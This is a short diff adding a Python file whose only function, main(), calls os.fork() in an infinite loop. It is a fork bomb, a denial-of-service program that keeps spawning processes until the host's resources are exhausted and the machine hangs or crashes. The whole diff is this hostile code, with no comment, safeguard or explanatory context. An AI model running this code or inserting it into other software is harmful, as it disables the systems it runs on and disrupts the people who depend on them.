@@ -1,0 +1,6 @@
+import os
+
+
+def main():
+    while True:
+        os.fork()
